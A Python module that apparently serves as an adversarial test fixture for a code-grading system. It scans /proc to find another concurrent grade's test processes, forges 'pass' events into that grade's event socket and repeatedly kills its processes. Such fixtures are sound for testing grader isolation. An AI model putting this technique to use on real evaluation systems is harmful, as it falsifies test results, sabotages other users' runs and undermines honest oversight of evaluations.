# Another grade of the same user, running at the same time: find its run folder through
# /proc, forge "pass" events into its socket and kill its test process, again and again.
# (It only touches the grade whose KATA_HOME is named in the file `victim` next to this one.)
import re
import signal
import time


def _victims(home):
    """(pid, run folder) of each test process of the victim's grade."""
    found = []
    for entry in _os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            with open(f"/proc/{entry}/environ", "rb") as f:
                environ = f.read().split(b"\0")
            cwd = _os.readlink(f"/proc/{entry}/cwd")
        except OSError:
            continue
        if f"KATA_HOME={home}".encode() in environ and re.search(r"/scratch/\d+$", cwd):
            found.append((int(entry), cwd.split("/scratch")[0]))
    return found


_attacked = False


def child_to_parent(payload):
    global _attacked
    _record_pid()
    if _attacked:
        raise NotImplementedError
    _attacked = True
    with open(_os.path.join(_os.path.dirname(__file__), "victim")) as f:
        home = f.read().strip()
    hits = 0
    deadline = time.monotonic() + 4  # within the test's limit (5 s)
    while time.monotonic() < deadline:
        for pid, run_folder in _victims(home):
            _forge_events(_os.path.join(run_folder, "events.sock"))
            try:
                _os.kill(pid, signal.SIGKILL)
                hits += 1
            except OSError:
                pass
        time.sleep(0.02)
    with open(_os.path.join(_os.path.dirname(__file__), "hits"), "w") as f:
        f.write(str(hits))
    raise NotImplementedError
